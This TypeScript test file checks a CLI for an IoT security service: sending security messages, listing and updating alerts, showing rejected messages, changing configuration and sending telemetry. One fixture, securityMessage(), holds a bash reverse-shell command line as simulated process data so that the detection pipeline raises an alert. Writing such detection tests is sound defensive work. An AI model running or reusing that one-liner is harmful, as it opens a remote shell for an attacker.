import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { AlertView } from '../src/finding.ts'
import type { Page } from '../src/pages.ts'
import type { ConfigurationView } from '../src/security-view.ts'
import { startProgram, type TestServer } from './program.ts'

/** How long the pipeline may take from PUBACK to what the API shows. */
const PIPELINE_DEADLINE_MS = 20_000

interface Event {
  readonly name: string
  readonly details: { readonly ProcessId: number }
}

interface Rejection {
  readonly reason: string
  readonly excerpt: string
}

let server: TestServer
before(async () => {
  server = await startProgram()
  await server.json('device', 'create', 'pump-1')
})
after(() => server[Symbol.asyncDispose]())

/** Asks again until the list has an item, and returns its first. */
async function waitForItem<T>(...words: readonly string[]): Promise<T> {
  const deadlineMs = Date.now() + PIPELINE_DEADLINE_MS
  for (;;) {
    const { items } = await server.json<Page<T>>(...words)
    const [item] = items
    if (item !== undefined) return item
    assert.ok(Date.now() < deadlineMs, `nothing came: ${words.join(' ')}`)
  }
}

/** A message of the C agent, with one process that opens a reverse shell. */
function securityMessage(): string {
  const now = new Date().toISOString()
  return JSON.stringify({
    AgentVersion: '0.0.6',
    AgentId: 'e00dc5f5-feac-4c3e-87e2-93c16f010c00',
    MessageSchemaVersion: '1.0',
    Events: [
      {
        EventType: 'Security',
        Category: 'Triggered',
        Name: 'ProcessCreate',
        IsEmpty: false,
        PayloadSchemaVersion: '1.0',
        Id: '37c5cd45-4e22-4ae0-bd8d-6b0ad2ee5b4b',
        TimestampLocal: now,
        TimestampUTC: now,
        Payload: [
          {
            Executable: '/bin/bash',
            ProcessId: 4242,
            ParentProcessId: 1,
            UserId: '0',
            CommandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
          },
        ],
      },
    ],
  })
}

test('send --security: the message becomes events of the device', async () => {
  const file = ['--security', '--file', '-']
  const sent = await server.run(['send', 'pump-1', ...file, '--json'], securityMessage())
  assert.equal(sent.code, 0, sent.stderr)
  const { moduleId, bytes, messageId } = JSON.parse(sent.stdout)
  assert.equal(moduleId, 'azureiotsecurity')
  assert.equal(bytes, Buffer.byteLength(securityMessage()))
  assert.match(messageId, /^[0-9a-f-]{36}$/)

  const event = await waitForItem<Event>('security', 'events', '--device', 'pump-1')
  assert.equal(event.name, 'ProcessCreate')
  assert.equal(event.details.ProcessId, 4242)
  const people = await server.run(['security', 'events'])
  assert.match(people.stdout, /^TIME +DEVICE +EVENT/)
})

test('alerts: are listed, shown, updated', async () => {
  const alert = await waitForItem<AlertView>('security', 'alerts', '--device', 'pump-1')
  const shown = await server.run(['security', 'alerts', 'show', alert.id])
  assert.ok(shown.stdout.includes(alert.displayName))
  const change = ['--status', 'InProgress', '--assignee', 'night shift', '--note', 'on it']
  const updated = await server.json<AlertView>('security', 'alerts', 'update', alert.id, ...change)
  assert.equal(updated.status, 'InProgress')
  assert.equal(updated.assignee, 'night shift')
  const { items } = await server.json<Page<AlertView>>(
    'security',
    'alerts',
    '--status',
    'InProgress',
  )
  assert.equal(items[0]?.id, alert.id)
  const nobody = await server.run(['security', 'alerts', 'show', 'no-such-alert'])
  assert.equal(nobody.code, 1)
  assert.match(nobody.stderr, /There is no alert no-such-alert\. \(GenericNotFound\)/)
})

test('rejected: what is no security message is listed with its reason', async () => {
  const sent = await server.run(['send', 'pump-1', '--security', '--data', 'not JSON'])
  assert.equal(sent.code, 0, sent.stderr)
  const rejection = await waitForItem<Rejection>('security', 'rejected', '--device', 'pump-1')
  assert.equal(rejection.excerpt, 'not JSON')
  assert.ok(rejection.reason.length > 0)
})

test('config: set changes the desired value, and null takes it back', async () => {
  const name = ['security', 'config', 'set', 'pump-1']
  const changed = await server.json<ConfigurationView>(...name, 'snapshotFrequency=PT1H')
  assert.equal(changed.effective.snapshotFrequency?.value, 'PT1H')
  const shown = await server.run(['security', 'config', 'show', 'pump-1'])
  assert.match(shown.stdout, /^snapshotFrequency +PT1H +desired/m)
  const refused = await server.run([...name, 'snapshotFrequency=often'])
  assert.equal(refused.code, 1)
  assert.match(refused.stderr, /snapshotFrequency/)
  const back = await server.json<ConfigurationView>(...name, 'snapshotFrequency=')
  assert.notEqual(back.effective.snapshotFrequency?.value, 'PT1H')
})

test('status, show, recommendations: answer with and without --json', async () => {
  assert.equal(typeof (await server.json('security', 'status')).devicesWithOpenAlerts, 'number')
  assert.equal((await server.json('security', 'show', 'pump-1')).deviceId, 'pump-1')
  assert.ok(Array.isArray((await server.json('security', 'recommendations')).items))
  const status = await server.run(['security', 'status'])
  assert.match(status.stdout, /^Open alerts +\d/m)
  const shown = await server.run(['security', 'show', 'pump-1'])
  assert.match(shown.stdout, /^Device +pump-1$/m)
  assert.match(shown.stdout, /^azureiotsecurity +legacy/m)
})

test('send: telemetry of a device and of a module, and a refusal of a disabled device', async () => {
  const property = ['--property', 'colour=red', '--content-type', 'application/json']
  const device = await server.run(['send', 'pump-1', '--data', '{"t":21}', ...property])
  assert.deepEqual([device.code, device.stdout], [0, 'Sent 8 bytes as pump-1.\n'])
  await server.json('device', 'create', 'pump-2', '--disabled')
  const refused = await server.run(['send', 'pump-2', '--data', 'x'])
  assert.equal(refused.code, 1)
  assert.match(refused.stderr, /^The server refuses this identity/)
  const missing = await server.run(['send', 'pump-1', '--file', '/nonexistent/body'])
  assert.equal(missing.code, 1)
  assert.match(missing.stderr, /\/nonexistent\/body cannot be read/)
})
